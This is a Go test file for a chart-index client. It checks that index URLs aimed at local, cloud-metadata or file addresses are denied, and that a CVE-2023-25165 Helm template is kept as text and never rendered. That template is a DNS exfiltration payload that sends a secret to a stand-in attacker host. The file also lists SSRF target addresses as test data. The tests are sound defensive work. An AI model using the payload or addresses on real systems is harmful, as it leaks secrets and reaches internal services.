// SPDX-License-Identifier: Apache-2.0

package chart

import (
	"net/url"
	"testing"

	"github.com/opencontainers/go-digest"

	"ocm"
	"ocm/internal/fixture"
	"ocm/web"
)

// Where an index must not lead: to what only this computer can reach, and from https to http without a digest.
func TestAddressesInAnIndex(t *testing.T) {
	t.Parallel()
	sum := digest.FromString("x")
	for _, c := range []struct {
		base, url string
		sum       digest.Digest
		want      error
	}{
		{"https://charts.example/a", "app.tgz", "", nil},
		{"https://charts.example/a", "https://cdn.example/app.tgz?x=1", "", nil},
		{"https://charts.example/a", "http://cdn.example/app.tgz", sum, nil},
		{"https://charts.example/a", "http://cdn.example/app.tgz", "", ocm.ErrDenied},
		{"http://charts.example", "http://169.254.169.254/latest/meta-data", sum, ocm.ErrDenied},
		{"http://charts.example", "http://[fe80::1]/x", sum, ocm.ErrDenied},
		{"http://charts.example", "http://localhost:8080/x", sum, ocm.ErrDenied},
		{"http://charts.example", "http://127.0.0.1/x", sum, ocm.ErrDenied},
		{"http://charts.example", "http://[::ffff:127.0.0.1]/x", sum, ocm.ErrDenied},
		{"http://127.0.0.1:1", "http://127.0.0.1:2/x", "", nil},
		{"https://charts.example", "file:///etc/passwd", sum, ocm.ErrInvalid},
		{"https://charts.example", "https://u:p@cdn.example/x", sum, ocm.ErrDenied},
		{"https://charts.example", "https://", sum, ocm.ErrInvalid},
		{"https://charts.example", "https://cdn.example:port/x", sum, ocm.ErrInvalid},
	} {
		base, err := url.Parse(c.base)
		if err != nil {
			t.Fatal(err)
		}
		client, err := web.For(t.Context(), &ocm.Env{}, base)
		if err != nil {
			t.Fatal(err)
		}
		got, err := Entry{Version: "1.0.0", URL: c.url, Digest: c.sum}.open(t.Context(), &ocm.Env{}, client, base)
		if c.want == nil && (err != nil || got.Root.Digest != c.sum || got.Root.Size != -1 || got.Root.MediaType != MediaTypeContent) {
			t.Errorf("%+v: %+v %v", c, got.Root, err)
		}
		if c.want != nil {
			fixture.WantErr(t, err, c.want)
		}
	}
}

// Templates are text here: nothing of a chart is executed, so that none of its functions can tell anybody anything.
func TestCVE_2023_25165_TemplatesAreNotRendered(t *testing.T) {
	t.Parallel()
	const template = `{{ getHostByName (printf "%s.attacker.example" .Values.secret) }}`
	dir := folder(t, map[string]string{"c/Chart.yaml": appYAML, "c/templates/x.yaml": template})
	_, files, _, err := packed(t, dir, "c")
	if err != nil || files["app/templates/x.yaml"] != template {
		t.Errorf("%q %v", files, err)
	}
}
